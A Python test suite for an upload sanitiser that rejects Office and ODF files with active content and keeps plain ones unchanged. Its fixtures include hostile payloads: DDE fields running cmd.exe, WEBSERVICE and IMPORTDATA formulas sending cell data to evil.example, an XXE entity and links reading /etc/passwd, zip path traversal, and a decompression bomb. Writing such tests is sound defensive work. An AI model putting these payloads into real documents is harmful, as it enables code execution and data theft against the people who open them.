"""Office files: each kind of active content is refused with its name; plain files are stored unchanged."""

import gzip
import io
import zipfile

import pytest
from django.core.exceptions import ValidationError

from tests.documents.document_samples import (
    SHEET,
    SLIDES,
    TEXT_DOCUMENT,
    WORD,
    A,
    P,
    R,
    S,
    W,
    make_odt,
    make_office,
    make_relationships,
)
from tests.thorough import sample
from tfc.documents.cleaning import clean_upload
from tfc.documents.kinds import OFFICE

EVIL = "https://evil.example/a"


def clean(suffix: str, content: bytes) -> bytes:
    return clean_upload(io.BytesIO(content), suffix=suffix, longest_side=0).file.read()


def field(*pieces: str) -> str:
    """A Word field whose instruction is split over several runs."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin, separate, end = (
        f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
    )
    return f"<w:body><w:p>{begin}{runs}{separate}<w:r><w:t>1</w:t></w:r>{end}</w:p></w:body>"


NESTED = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    '<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    '<w:r><w:instrText> cmd "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml."
CELL = f'<worksheet xmlns="{S}"><sheetData><row><c><f>%s</f></c></row></sheetData></worksheet>'


def sheet(formula: str) -> bytes:
    return make_office(".xlsx", parts={"xl/worksheets/sheet1.xml": CELL % formula})


def slide(body: str, *links: tuple[str, str, bool]) -> bytes:
    parts: dict[str, bytes | str] = {
        "ppt/slides/slide1.xml": f'<p:sld xmlns:p="{P}" xmlns:a="{A}" xmlns:r="{R}">{body}</p:sld>',
        "ppt/slides/_rels/slide1.xml.rels": make_relationships(*links),
    }
    return make_office(".pptx", parts=parts)


ACTIVE = {
    "dde.docx": (
        make_office(".docx", field("DDEAUTO c:\\\\Windows\\\\cmd.exe")),
        "a field, form or formula that loads or starts something (DDEAUTO)",
    ),
    "split-dde.docx": (
        make_office(".docx", field(" D", "DE", " cmd ")),
        "a field, form or formula that loads or starts something (DDE)",
    ),
    "nested-dde.docx": (
        make_office(".docx", NESTED),
        "a field, form or formula that loads or starts something (…)",
    ),
    "simple-dde.docx": (make_office(".docx", '<w:p><w:fldSimple w:instr="DDE cmd a"/></w:p>'), "(DDE)"),
    "includepicture.docx": (make_office(".docx", field(f'INCLUDEPICTURE "{EVIL}" \\d')), "(INCLUDEPICTURE)"),
    "includetext.docx": (make_office(".docx", field(f'INCLUDETEXT "{EVIL}"')), "(INCLUDETEXT)"),
    "link-field.docx": (
        make_office(".docx", field('HYPERLINK \\t "_blank" "file://evil.example/a"')),
        "(HYPERLINK file://evil.example/a)",
    ),
    "altchunk.docx": (
        make_office(
            ".docx",
            '<w:altChunk r:id="rId1"/>',
            links=(("aFChunk", "a.mht", False),),
            parts={"word/a.mht": "MIME"},
        ),
        "an embedded object or file (a.mht)",
    ),
    "template.docx": (
        make_office(".docx", links=(("attachedTemplate", EVIL, True),)),
        f"a connection to another file or website ({EVIL})",
    ),
    "picture.docx": (
        make_office(".docx", links=(("image", EVIL, True),)),
        "a connection to another file or website",
    ),
    "picture-as-link.docx": (
        make_office(".docx", '<a:blip r:link="rId1"/>', links=(("hyperlink", EVIL, True),)),
        "a connection to another file or website (blip)",
    ),
    "drawn.docx": (
        make_office(".docx", f'<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="{EVIL}"/>'),
        "a connection to another file or website",
    ),
    "file-link.docx": (
        make_office(".docx", '<w:hyperlink r:id="rId1"/>', links=(("hyperlink", "file:////evil/a", True),)),
        "not a web or email address (file:////evil/a)",
    ),
    "script-link.docx": (
        make_office(
            ".docx", '<w:hyperlink r:id="rId1"/>', links=(("hyperlink", "javascript:alert(1)", True),)
        ),
        "not a web or email address",
    ),
    "no-mode.docx": (
        make_office(".docx", links=(("image", "\\\\evil.example\\a.png", False),)),
        "a connection to another file or website",
    ),
    "macros.docx": (
        make_office(
            ".docx",
            parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"},
            links=(("vbaProject", "vbaProject.bin", False),),
        ),
        "a script or macro (vbaProject.bin)",
    ),
    "macro-type.docx": (
        make_office(".docx", main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "a script or macro",
    ),
    "object.docx": (
        make_office(
            ".docx",
            '<w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" ProgID="Package"/></w:object>',
            parts={"word/embeddings/a.bin": b"\xd0\xcf\x11\xe0"},
        ),
        "an embedded object or file (object)",
    ),
    "package.docx": (
        make_office(
            ".docx", links=(("package", "embeddings/a.docx", False),), parts={"word/embeddings/a.docx": WORD}
        ),
        "an embedded object or file",
    ),
    "merge.docx": (make_office(".docx", "<w:mailMerge/>"), "a connection to another file or website"),
    "program.docx": (
        make_office(".docx", parts={"word/media/a.png": b"MZ\x90"}),
        "a part of an unknown kind (word/media/a.png)",
    ),
    "header-as-font.docx": (
        make_office(
            ".docx",
            links=(("header", "header1.xml", False),),
            parts={"word/header1.xml": f'<w:hdr xmlns:w="{W}"><w:fldSimple w:instr="DDE cmd a"/></w:hdr>'},
            types='<Override PartName="/word/header1.xml" ContentType="application/x-fontdata"/>',
        ),
        "(DDE)",
    ),
    "original-picture.docx": (
        make_office(
            ".docx", f'<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:o" o:href="{EVIL}"/>'
        ),
        "a connection to another file or website",
    ),
    "svg.docx": (
        make_office(
            ".docx",
            parts={
                "word/media/a.svg": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{EVIL}"/></svg>'
            },
        ),
        "a connection to another file or website",
    ),
    **{
        f"svg-{number}.docx": (
            make_office(
                ".docx",
                parts={"word/media/a.svg": f'<svg xmlns="http://www.w3.org/2000/svg">{content}</svg>'},
            ),
            "a connection to another file or website",
        )
        for number, content in enumerate(
            (
                f"<style>@import url({EVIL});</style>",
                f"<style><![CDATA[@\\69mport '{EVIL}';]]></style>",
                f'<rect style="fill:url(#a);stroke:url({EVIL})"/>',
                f"<style>rect {{ fill: url(#a) }} <title/> a {{ fill: url('{EVIL}') }}</style>",
            )
        )
    },
    "svg-style-sheet.odt": (
        make_odt(
            parts={
                "Pictures/a.svg": f'<?xml-stylesheet href="{EVIL}"?><svg xmlns="http://www.w3.org/2000/svg"/>'
            }
        ),
        "a connection to another file or website",
    ),
    "svg-style.odt": (
        make_odt(
            parts={
                "Pictures/a.svg": f'<svg xmlns="http://www.w3.org/2000/svg"><style>@import "{EVIL}";</style></svg>'
            }
        ),
        "a connection to another file or website",
    ),
    "compressed-svg.docx": (
        make_office(
            ".docx",
            parts={"word/media/a.svgz": gzip.compress(b'<svg xmlns="http://www.w3.org/2000/svg"/>')},
        ),
        "a part of an unknown kind (word/media/a.svgz)",
    ),
    "video.pptx": (
        slide('<a:videoFile r:link="rId1"/>', ("video", EVIL, True)),
        f"a connection to another file or website ({EVIL})",
    ),
    "hover.pptx": (
        slide('<a:hlinkHover r:id="rId1"/>', ("hyperlink", EVIL, True)),
        "a connection to another file or website (hlinkHover)",
    ),
    "program.pptx": (
        slide('<a:hlinkClick r:id="rId1" action="ppaction://program"/>', ("hyperlink", EVIL, True)),
        "an action that starts a program or opens a website",
    ),
    "macro.pptx": (
        slide('<a:hlinkClick r:id="" action="ppaction://macro?name=a"/>'),
        "an action that starts a program or opens a website",
    ),
    "control.pptx": (
        slide('<p:control r:id="rId1"/>', ("control", "../activeX/a.xml", False)),
        "an embedded object or file",
    ),
    "addin.pptx": (
        make_office(".pptx", parts={"ppt/webextensions/a.xml": '<we:webextension xmlns:we="x"/>'}),
        "an embedded object or file",
    ),
    "chart.pptx": (
        make_office(
            ".pptx",
            parts={
                "ppt/charts/chart1.xml": "<a/>",
                "ppt/charts/_rels/chart1.xml.rels": make_relationships(
                    ("package", "../embeddings/a.xlsx", False)
                ),
                "ppt/embeddings/a.xlsx": sheet("cmd|' /c calc'!A1"),
            },
        ),
        "a field, form or formula that loads or starts something (DDE)",
    ),
    "connection.xlsx": (
        make_office(
            ".xlsx",
            links=(("connections", "connections.xml", False),),
            parts={"xl/connections.xml": f'<connections xmlns="{S}"><webPr url="{EVIL}"/></connections>'},
        ),
        "a connection to another file or website (connections.xml)",
    ),
    "unlinked-connection.xlsx": (
        make_office(
            ".xlsx",
            parts={"xl/connections.xml": "<a/>"},
            types=f'<Override PartName="/xl/connections.xml" ContentType="{SHEET_TYPE}connections+xml"/>',
        ),
        "a connection to another file or website (xl/connections.xml)",
    ),
    "query.xlsx": (
        make_office(
            ".xlsx",
            parts={
                "customXml/item1.xml": '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'
            },
        ),
        "a connection to another file or website",
    ),
    "pivot.xlsx": (
        make_office(
            ".xlsx",
            parts={"xl/pivotCache/a.xml": f'<pivot xmlns="{S}"><cacheSource type="external"/></pivot>'},
        ),
        "a connection to another file or website",
    ),
    "dde.xlsx": (
        make_office(
            ".xlsx",
            parts={
                "xl/externalLinks/a.xml": f'<externalLink xmlns="{S}"><ddeLink ddeService="cmd"/></externalLink>'
            },
        ),
        "a connection to another file or website (ddeLink)",
    ),
    "web.xlsx": (sheet('_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)'), "(WEBSERVICE)"),
    "link-formula.xlsx": (sheet('HYPERLINK ( "ms-msdt:/id a","Page: 3")'), "(ms-msdt:/id a)"),
    "google.xlsx": (sheet('IMPORTDATA("https://evil.example/"&amp;A1)'), "(IMPORTDATA)"),
    "image.xlsx": (sheet(f'_xlfn.IMAGE("{EVIL}")'), "(IMAGE)"),
    "other-book.xlsx": (
        sheet("'\\\\evil.example\\s\\[a.xlsx]B'!A1"),
        "a field, form or formula that loads or starts something",
    ),
    "sheet-as-printer.xlsx": (
        make_office(
            ".xlsx",
            links=(("worksheet", "worksheets/sheet%31.xml", False),),
            parts={"xl/worksheets/sheet1.xml": CELL % 'WEBSERVICE("https://evil.example/")'},
            types=f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{SHEET_TYPE}printerSettings"/>',
        ),
        "(WEBSERVICE)",
    ),
    "color-scale.xlsx": (
        make_office(
            ".xlsx",
            parts={
                "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{S}"><cfvo val="WEBSERVICE(A1)"/></worksheet>'
            },
        ),
        "(WEBSERVICE)",
    ),
    "macro-sheet.xlsx": (
        make_office(".xlsx", links=(("xlMacrosheet", "m.xml", False),), parts={"xl/m.xml": "<a/>"}),
        "a script or macro",
    ),
    "shape-macro.xlsx": (
        make_office(".xlsx", parts={"xl/drawings/d.xml": '<sp macro="[0]!Run"/>'}),
        "a script or macro",
    ),
    "picture.odt": (
        make_odt(f'<draw:image xlink:href="{EVIL}"/>'),
        f"a connection to another file or website ({EVIL})",
    ),
    "local.odt": (
        make_odt('<draw:image xlink:href="../../secret.png"/>'),
        "a connection to another file or website",
    ),
    "local-by-a-detour.odt": (
        make_odt('<draw:image xlink:href="Pictures/../../secret.png"/>'),
        "a connection to another file or website",
    ),
    "button-picture.odt": (
        make_odt(f'<form:button xmlns:form="urn:form" form:image-data="{EVIL}"/>'),
        f"a connection to another file or website ({EVIL})",
    ),
    "xforms.odt": (
        make_odt(f'<instance xmlns="http://www.w3.org/2002/xforms" src="{EVIL}"/>'),
        f"a connection to another file or website ({EVIL})",
    ),
    "database-form.odt": (
        make_odt('<form:form xmlns:form="urn:form" form:datasource="file:///a.odb"/>'),
        "a connection to another file or website (file:///a.odb)",
    ),
    "menu.odt": (
        make_odt(parts={"Configurations2/menubar/a.xml": '<menuitem id="vnd.sun.star.script:a"/>'}),
        "a script or macro (vnd.sun.star.script:a)",
    ),
    "section.odt": (
        make_odt(f'<text:section><text:section-source xlink:href="{EVIL}"/></text:section>'),
        "a connection to another file or website",
    ),
    "listener.odt": (
        make_odt('<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a"/>'),
        "a script or macro",
    ),
    "button.odt": (
        make_odt('<text:a xlink:href="vnd.sun.star.script:a?language=Basic">x</text:a>'),
        "a script or macro",
    ),
    "dde.odt": (
        make_odt('<office:dde-source office:dde-application="cmd"/>'),
        "a connection to another file or website",
    ),
    "object.odt": (make_odt('<draw:object-ole xlink:href="./Object 1"/>'), "an embedded object or file"),
    "frame.odt": (make_odt(f'<draw:floating-frame xlink:href="{EVIL}"/>'), "an embedded object or file"),
    "macros.odt": (
        make_odt(parts={"Basic/Standard/Module1.xml": "<a/>"}),
        "a script or macro (Basic/Standard/Module1.xml)",
    ),
    "link.odt": (
        make_odt('<text:a xlink:href="file:///etc/passwd">x</text:a>'),
        "not a web or email address",
    ),
}


@pytest.mark.parametrize("name", sample(ACTIVE, first=16))
def test_it_says_what_it_found(name: str):
    content, fault = ACTIVE[name]
    with pytest.raises(ValidationError) as refused:
        clean(name[name.rindex(".") :], content)
    sentence = refused.value.messages[0]
    assert refused.value.code == "active"
    assert sentence.startswith("This file contains ")
    assert fault in sentence


@pytest.mark.parametrize(
    ("suffix", "content"),
    [
        (".docx", WORD),
        (".pptx", SLIDES),
        (".xlsx", SHEET),
        (".odt", TEXT_DOCUMENT),
        (".docx", make_office(".docx", field("PAGE \\* MERGEFORMAT"))),
        (".docx", make_office(".docx", field('HYPERLINK "https://fine.example/" \\o "a tip" \\t "_blank"'))),
        (".docx", make_office(".docx", field('HYPERLINK \\l "_Toc1"'))),
        (
            ".docx",
            make_office(
                ".docx", '<w:hyperlink r:id="rId1"/>', links=(("hyperlink", "mailto:a@b.example", True),)
            ),
        ),
        (".docx", make_office(".docx", '<m:f xmlns:m="urn:math"><m:t>a|b</m:t></m:f>')),
        (".xlsx", sheet('IF(A1&gt;1,"a|b",HYPERLINK("https://fine.example","see"))')),
        (
            ".docx",
            make_office(
                ".docx",
                links=(("font", "fonts/a.odttf", False),),
                parts={"word/fonts/a.odttf": b"\x7f\x00a"},
                types=f'<Default Extension="odttf" ContentType="{OFFICE}obfuscatedFont"/>',
            ),
        ),
        (".odt", make_odt('<form:form xmlns:form="urn:form" form:datasource="" xlink:href=""/>')),
        (".xlsx", sheet("SUM('Plan | 2026'!A1:A3)*2")),
        (
            ".docx",
            make_office(
                ".docx",
                parts={
                    "word/media/a.svg": '<svg xmlns="http://www.w3.org/2000/svg"><style>.a { fill: url(#b); }</style>'
                    "<rect style=\"fill:url('#b')\"/></svg>",
                    "word/media/b.emz": gzip.compress(b"\1\0\0\0" + b"\0" * 36 + b" EMF" + b"\0" * 99),
                },
            ),
        ),
        (
            ".odt",
            make_odt(
                '<text:a xlink:href="https://fine.example/">x</text:a><text:a xlink:href="#a">y</text:a>'
            ),
        ),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_it_keeps_plain_ones_byte_by_byte(suffix: str, content: bytes):
    assert clean(suffix, content) == content


def doubled() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name in ("[Content_Types].xml", "word/document.xml", "Word/Document.xml"):
            archive.writestr(name, "<a/>")
    return out.getvalue()


ENTITY = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'


@pytest.mark.parametrize(
    ("suffix", "content", "code"),
    [
        (".docx", doubled(), "unsafe-package"),
        (".docx", make_office(".docx", parts={"../../etc/passwd": "x"}), "unsafe-package"),
        (".docx", make_office(".docx", parts={"word/a.xml": ENTITY}), "unsafe-package"),
        (".docx", make_office(".docx", parts={"word/a.xml": "<a><b></a>"}), "broken-part"),
        (".docx", make_office(".docx", parts={"word/media/a.bmp": b"BM" + bytes(30 << 20)}), "too-much"),
        (".docx", SHEET, "wrong-kind"),
        (".docx", b"PK\3\4 broken", "wrong-kind"),
        (".odt", WORD, "wrong-kind"),
    ],
    ids=["twice", "path", "entity", "xml", "bomb", "other", "broken", "family"],
)
def test_it_refuses_packages_that_it_cannot_trust(suffix: str, content: bytes, code: str):
    with pytest.raises(ValidationError) as refused:
        clean(suffix, content)
    assert refused.value.code == code
